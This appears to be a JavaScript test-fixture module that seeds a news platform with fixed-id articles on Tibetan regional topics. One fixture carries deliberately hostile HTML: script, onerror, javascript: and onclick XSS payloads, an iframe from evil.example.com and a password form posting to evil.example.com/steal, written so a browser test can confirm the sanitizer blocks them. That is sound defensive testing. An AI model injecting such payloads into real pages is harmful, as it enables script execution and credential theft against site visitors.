/**
 * Hand-placed articles with fixed ids, one per situation a client or test needs
 * to reach directly. docs/platform-api.md lists them; change both together.
 */
import { makeArticle, TYPE, PIC } from './article-factory.mjs';
import { columnById } from './columns.mjs';
import { ANCHOR_SECONDS } from '../lib/time.mjs';

export const FIXTURE_IDS = {
  news: 1000, // home column, every byline role, inline images, pinned
  photoSet: 1001,
  video: 1002,
  livePreview: 1003, // liveStatus 0
  liveOngoing: 1004, // liveStatus 1
  liveReplay: 1005, // liveStatus 2 with playback
  liveEndedNoReplay: 1006, // liveStatus 2 without playback
  special: 1007, // articleType 3 -> column 35
  link: 1008,
  h5: 1009,
  hostile: 1010, // script / onerror / javascript: / foreign iframe in content; in the hidden test column 18
  preview: 1011, // aStatus 0
  shareClosed: 1012,
  discussClosed: 1013, // also advClosed
  english: 1014,
  markerTitle: 1015, // long title with [=x1]
  hot: 1016, // countClick > 10000, pinned
  xyStatus1: 1017,
  xyForbidden: 1018,
  special2: 1019, // -> column 36
  special3: 1020, // -> column 37
  xyStatus4: 1021,
  noPicture: 1022, // picType 0
  threePics: 1023, // picType 3
  bigPic: 1024, // picType 2
  homeVideo: 1025,
  homePhotoSet: 1026,
  englishVideo: 1027,
};

// Every attack sets window.__pwned (and alerts), so a browser test can prove none of them ran.
const HOSTILE_CONTENT = [
  '<p>这是一篇用于安全测试的稿件，正文中混入了常见的恶意代码。</p>',
  '<script>window.__pwned = 1; alert("xss-script")</script>',
  '<p><img src=x onerror="window.__pwned = 2; alert(\'xss-onerror\')">图片加载失败时会执行脚本。</p>',
  '<p><a href="javascript:window.__pwned=3;alert(\'xss-link\')">点击领取奖品</a></p>',
  '<iframe src="https://evil.example.com/frame.html" width="300" height="200"></iframe>',
  '<p onclick="window.__pwned = 4; alert(\'xss-attr\')" style="position:fixed;top:0">带事件属性的段落。</p>',
  '<svg><script>window.__pwned = 5</script><image href="x" onerror="window.__pwned = 6"></image></svg>',
  '<p><img src="https://example.org/a.png" srcset="javascript:window.__pwned=7" onload="window.__pwned = 8"></p>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example.com/steal"><input name="password"></form>',
  '<p><a href="https://example.org/safe">正常的外部链接</a>应当保留。</p>',
  '<!--IMAGES#1-->',
].join('\n');

/**
 * @typedef {{id:number, column:number, type:number, over?:Record<string, string|number|null>,
 *   liveStatus?:number, hasPlayback?:boolean, allBylines?:boolean, content?:string, tags?:number[], noImages?:boolean}} FixtureDef
 */

/** @type {FixtureDef[]} */
const DEFS = [
  {
    id: 1000,
    column: 1,
    type: TYPE.NEWS,
    allBylines: true,
    tags: [1, 4],
    over: {
      title: '高原融媒：拉萨青稞产业迎来新发展',
      is_top: 1,
      pic_type: PIC.SMALL,
      pic: 1,
      xy_account_id: 1,
      reporter_id: 1,
    },
  },
  { id: 1001, column: 7, type: TYPE.PHOTOS, over: { title: '组图｜纳木错湖畔的冬日牧场' } },
  { id: 1002, column: 6, type: TYPE.VIDEO, over: { title: '视频｜航拍雅鲁藏布大峡谷' } },
  { id: 1003, column: 8, type: TYPE.LIVE, liveStatus: 0, over: { title: '直播预告：2026雪顿节开幕式' } },
  { id: 1004, column: 8, type: TYPE.LIVE, liveStatus: 1, over: { title: '正在直播：拉萨马拉松鸣枪开跑' } },
  {
    id: 1005,
    column: 8,
    type: TYPE.LIVE,
    liveStatus: 2,
    hasPlayback: true,
    over: { title: '直播回放：唐卡艺术大师现场创作' },
  },
  {
    id: 1006,
    column: 8,
    type: TYPE.LIVE,
    liveStatus: 2,
    hasPlayback: false,
    over: { title: '直播已结束：青稞丰收节（无回放）' },
  },
  { id: 1007, column: 9, type: TYPE.SPECIAL, over: { title: '专题｜2026雪顿节', sub_column_id: 35, pic: 5 } },
  { id: 1008, column: 1, type: TYPE.LINK, over: { title: '高原旅游服务平台上线' } },
  { id: 1009, column: 1, type: TYPE.H5, over: { title: 'H5｜一起来答题：你了解高原生态吗' } },
  {
    id: 1010,
    column: 18,
    type: TYPE.NEWS,
    content: HOSTILE_CONTENT,
    tags: [30],
    over: { title: '安全测试：含有恶意代码的稿件', pic_type: PIC.SMALL, pic: 2 },
  },
  { id: 1011, column: 1, type: TYPE.NEWS, over: { title: '预览稿件：尚未发布的日喀则新闻', a_status: 0 } },
  {
    id: 1012,
    column: 1,
    type: TYPE.NEWS,
    over: { title: '林芝桃花节筹备进展：今年新增三条赏花线路', share_closed: 1 },
  },
  {
    id: 1013,
    column: 3,
    type: TYPE.NEWS,
    over: { title: '自治区政府常务会议部署冬春安全生产工作', discuss_closed: 1, adv_closed: 1 },
  },
  {
    id: 1014,
    column: 10,
    type: TYPE.NEWS,
    over: { title: 'Lhasa barley harvest reaches record high', pic_type: PIC.BIG, pic: 3 },
  },
  {
    id: 1015,
    column: 1,
    type: TYPE.NEWS,
    over: {
      title:
        '[=x1]拉萨青稞产业迎来新发展，日喀则牦牛养殖取得新成效——记那曲驻村干部扎西的十八年坚守，他用脚步丈量了全乡每一户牧民的草场[=x1]',
    },
  },
  {
    id: 1016,
    column: 1,
    type: TYPE.NEWS,
    over: {
      title: '热点｜羊卓雍措迎来观鸟季',
      is_top: 1,
      count_click: 123456,
      count_praise: 8765,
      count_share: 2345,
      count_discuss: 678,
    },
  },
  { id: 1017, column: 2, type: TYPE.NEWS, over: { title: '山南文化惠民演出走进乡村', xy_account_id: 11 } },
  { id: 1018, column: 3, type: TYPE.NEWS, over: { title: '阿里边境小康村迎来首批游客', xy_account_id: 10 } },
  { id: 1019, column: 9, type: TYPE.SPECIAL, over: { title: '专题｜乡村振兴进行时', sub_column_id: 36, pic: 12 } },
  { id: 1020, column: 9, type: TYPE.SPECIAL, over: { title: '专题｜高原生态保护', sub_column_id: 37, pic: 23 } },
  { id: 1021, column: 4, type: TYPE.NEWS, over: { title: '昌都光伏电站并网发电', xy_account_id: 12 } },
  {
    id: 1022,
    column: 3,
    type: TYPE.NEWS,
    noImages: true,
    over: { title: '政策解读：城乡居民医保缴费十问十答', pic_type: PIC.NONE, pic: null },
  },
  {
    id: 1023,
    column: 5,
    type: TYPE.NEWS,
    over: { title: '江孜古城的秋天', pic_type: PIC.THREE, pics: '[6,7,8]', pic_titles: '["","",""]', pic: 6 },
  },
  { id: 1024, column: 4, type: TYPE.NEWS, over: { title: '雅鲁藏布江畔的清洁能源基地', pic_type: PIC.BIG, pic: 9 } },
  { id: 1025, column: 1, type: TYPE.VIDEO, over: { title: '视频｜冬季供暖一线的守护者' } },
  { id: 1026, column: 1, type: TYPE.PHOTOS, over: { title: '图集｜藏历新年的传统美食' } },
  { id: 1027, column: 29, type: TYPE.VIDEO, over: { title: 'Video: a walk around Namtso Lake' } },
];

/** @returns {import('./article-factory.mjs').SeedArticle[]} */
export function fixtureArticles() {
  return DEFS.map((d) => {
    // Ten minutes apart from the anchor, so fixtures are the newest of their columns.
    const publishTime = ANCHOR_SECONDS - (d.id - 1000) * 600;
    const a = makeArticle(d.id, columnById(d.column), d.type, {
      publishTime,
      liveStatus: d.liveStatus,
      hasPlayback: d.hasPlayback,
      allBylines: d.allBylines,
    });
    Object.assign(a.row, { share_closed: 0, discuss_closed: 0, adv_closed: 0 }, d.over ?? {});
    if (d.content !== undefined)
      a.body = { content: d.content, images: [{ ref: '<!--IMAGES#1-->', pics: [{ n: 4, summary: '测试图片' }] }] };
    if (d.noImages) a.body = { content: a.body.content.replace(/\n?<!--IMAGES#\d+-->/g, ''), images: [] };
    if (d.tags) a.tagIds = d.tags;
    if (d.type === TYPE.SPECIAL) a.body.content = `<p>${a.row.title}：汇集相关报道、图集与视频。</p>`;
    if (d.id === FIXTURE_IDS.liveOngoing) a.row.live_start_time = publishTime - 3600;
    return a;
  });
}

/** Home column (1) decorations, pointing at fixtures so they exist at any seed size. */
export const HOME_DECOR = {
  carousel: [1000, 1001, 1002, 1007, 1004],
  topModule: [1015, 1016, 1025],
  liveArticles: [1004, 1003, 1005],
};
